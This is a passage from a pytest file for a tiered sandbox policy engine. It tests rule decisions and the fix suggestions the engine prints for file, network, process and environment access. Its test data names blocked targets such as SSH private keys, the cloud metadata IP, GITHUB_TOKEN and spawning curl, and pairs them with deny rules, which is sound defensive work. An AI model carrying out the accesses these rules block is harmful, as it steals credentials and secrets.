    up = eng.hop(cfg, "medium")                                                # a real escalation
    assert (up.tier, up.pending) == ("medium", "")
    assert decide(eng, up, "net.connect", "pypi.org:443").effect == "deny"
    assert cfg.level == eng.levels[cfg.tier] == 1


# --------------------------------------------------------------------------- reasons and fixes

def test_reason_names_the_rule_or_the_default(engine):
    d = decide(engine, "medium", "fs.read", "${home}/.ssh/id_rsa")
    rule_id = tier_rule(engine, "low", "deny fs.* @home.secret")
    assert (d.rule_id, d.rule_text) == (rule_id, "deny fs.* @home.secret")
    assert d.reason == f"deny by `deny fs.* @home.secret` ({rule_id})"
    d = decide(engine, "medium", "net.connect", "pypi.org:443")
    assert (d.rule_id, d.rule_text) == ("medium:default", "")
    assert d.reason == "no rule of medium matches this net.connect; its default is deny"
    assert not d.allowed and decide(engine, "medium", "fs.read", "${tmp}/x").allowed


@pytest.mark.parametrize("tier,category,target,line", [
    ("medium", "net.connect", "pypi.org:443", "net.connect pypi.org:443"),
    ("medium", "net.connect", "[2001:db8::1]:443", "net.connect [2001:db8::1]:443"),
    ("medium", "net.dns", "pypi.org", "net.dns pypi.org"),
    ("medium", "proc.spawn", spawn("/usr/bin/curl", "-s", "https://x"), "proc.spawn curl"),
    ("medium", "net.connect", "/run/docker.sock", "net.connect unix:/run/docker.sock"),
    ("high", "fs.read", "${home}/my notes.txt", "fs.read ${home}/my?notes.txt"),
    ("high", "proc.spawn", spawn("git", "status"), "proc.spawn git"),
    ("high", "code.native", "libc.so.6", "code.native libc.so.6"),
])
def test_default_deny_suggests_the_exact_allow_line_and_it_works(engine, tier, category, target, line):
    detail = "unix" if target.startswith("/var/run") else ""
    cls = ev.target_class(category, target, detail)
    d = engine.decide_target(category, target, cls, SandboxConfig(tier))
    assert (d.effect, d.rule_id) == ("deny", f"{tier}:default")
    fix = engine.how_to_allow(category, target, cls, SandboxConfig(tier))
    assert fix == (f"add `allow {line}` to the policy, or mark the test "
                   f"`@pytest.mark.sandhop(allow=[{line!r}])`")
    granted = engine.config(tier, grants=[line])
    assert engine.decide_target(category, target, cls, granted).effect == "allow"


@pytest.mark.parametrize("category,target", [
    ("fs.read", "${home}/data[1].csv"),                            # a glob set in the suggestion
    ("proc.spawn", spawn("${tmp}/my tool", "--flag")),             # a space in the executable
])
def test_suggested_allow_line_works_for_awkward_targets(engine, category, target):
    cls = ev.target_class(category, target)
    assert engine.decide_target(category, target, cls, SandboxConfig("high")).rule_id == "high:default"
    granted = engine.config("high", grants=[suggest_rule(category, target)])
    assert engine.decide_target(category, target, cls, granted).effect == "allow"


safe_name = st.text(alphabet="abcxyz0129_-.", min_size=1, max_size=8).filter(lambda s: s not in (".", ".."))


@PROPERTY
@given(st.one_of(
    st.builds(lambda p: ("fs.read", "${home}/" + "/".join(p)), st.lists(safe_name, min_size=1, max_size=3)),
    st.builds(lambda h, p: ("net.connect", ev.format_address(h, p)),
              st.from_regex(r"[a-z][a-z0-9]{0,6}\.(com|org|net)", fullmatch=True), st.integers(1, 65535)),
    st.builds(lambda n: ("proc.spawn", spawn(n, "-x")), st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True)),
    st.builds(lambda n: ("code.native", n), st.from_regex(r"lib[a-z]{1,6}\.so(\.[0-9])?", fullmatch=True)),
))
def test_every_default_deny_suggestion_allows_its_target(engine, op):
    category, target = op
    cls = ev.target_class(category, target)
    cfg = SandboxConfig("high")
    d = engine.decide_target(category, target, cls, cfg)
    if d.rule_id != "high:default":
        return  # a rule decided; covered below
    line = suggest_rule(category, target)
    assert f"add `allow {line}`" in engine.how_to_allow(category, target, cls, cfg)
    assert engine.decide_target(category, target, cls, engine.config("high", grants=[line])).effect == "allow"


@pytest.mark.parametrize("tier,category,target,rule,suggested", [
    ("medium", "fs.read", "${home}/.ssh/id_rsa", ("low", "deny fs.* @home.secret"), "observe"),
    ("medium", "net.connect", "169.254.169.254:80", ("low", "deny net.* metadata_ip:*"), "observe"),
    ("high", "sys.tamper", "addaudithook", ("high", "deny sys.tamper addaudithook"), "medium"),
    ("high", "env.read", "GITHUB_TOKEN", ("high", "deny env.read @env.secret"), "observe"),
])
def test_deny_rule_suggestion_names_the_rule_and_a_tier_that_allows(engine, tier, category, target, rule, suggested):
    cls = ev.target_class(category, target)
    fix = engine.how_to_allow(category, target, cls, SandboxConfig(tier))
    assert fix.startswith(f"`{rule[1]}` ({tier_rule(engine, *rule)}) beats any allow; run the test at a tier without it: "
                          f"`@pytest.mark.sandhop(tier={suggested!r})`")
    assert engine.decide_target(category, target, cls, SandboxConfig(suggested)).effect == "allow"
    # the suggested tier is the strictest that allows it
    stricter = TIERS[TIERS.index(suggested) + 1:TIERS.index(tier)]
    assert all(engine.decide_target(category, target, cls, SandboxConfig(t)).effect != "allow" for t in stricter)


def test_revocation_suggestion_names_the_revocation(engine):
    cfg = engine.config("medium", revocations=["net.connect loopback:*"])
    fix = engine.how_to_allow("net.connect", "127.0.0.1:80", "loopback", cfg)
    assert fix.startswith("`deny net.connect loopback:*` (revoke:1) beats any allow")
    assert engine.how_to_allow("fs.read", "${tmp}/x", "tmp", cfg) == "it is allowed"


def test_deny_allowed_by_no_more_permissive_tier_says_to_drop_the_line(engine):
    fix = engine.how_to_allow("fs.read", "${home}/.ssh/id_rsa", "home.secret", SandboxConfig("observe")
                              .revoke("fs.read @home.secret"))
    assert fix == "`deny fs.read @home.secret` (revoke:1) beats any allow; use a policy file without that line"


# --------------------------------------------------------------------------- decide_all

def view(target: str) -> ev.Event:
    return ev.Event(category="net.connect", op="socket.connect", target=target,
                    target_class=ev.target_class("net.connect", target))


@pytest.mark.parametrize("order", [0, 1])
def test_decide_all_a_deny_on_any_view_wins(engine, order):
    cfg = engine.config("medium", grants=["net.connect innocent.example.com:80"])
    views = [view("innocent.example.com:80"), view("169.254.169.254:80")]
    if order:
        views.reverse()
    assert engine.decide(view("innocent.example.com:80"), cfg).rule_id == "grant:1"
    d = engine.decide_all(views, cfg)
    assert (d.effect, d.rule_id) == ("deny", tier_rule(engine, "low", "deny net.* metadata_ip:*"))


@pytest.mark.parametrize("order", [0, 1])
def test_decide_all_an_allowed_name_beats_the_ip_views_default(engine, order):
    cfg = engine.config("medium", grants=["net.connect pypi.org:443"])
    views = [view("151.101.0.223:443"), view("pypi.org:443")]
    if order:
        views.reverse()
    assert engine.decide(view("151.101.0.223:443"), cfg).rule_id == "medium:default"
    d = engine.decide_all(views, cfg)
    assert (d.effect, d.rule_id) == ("allow", "grant:1")


def test_decide_all_redirect_beats_allow_and_default_applies_last(engine):
    dns = [ev.Event(category="net.dns", op="getaddrinfo", target=t, target_class=ev.target_class("net.dns", t))
           for t in ("localhost", "x.invalid")]
    assert engine.decide_all(dns, SandboxConfig("medium")).effect == "redirect"
    d = engine.decide_all([view("pypi.org:443"), view("151.101.0.223:443")], SandboxConfig("medium"))
    assert (d.effect, d.rule_id) == ("deny", "medium:default")
    with pytest.raises(ValueError, match="at least one event"):
        engine.decide_all([], SandboxConfig("medium"))
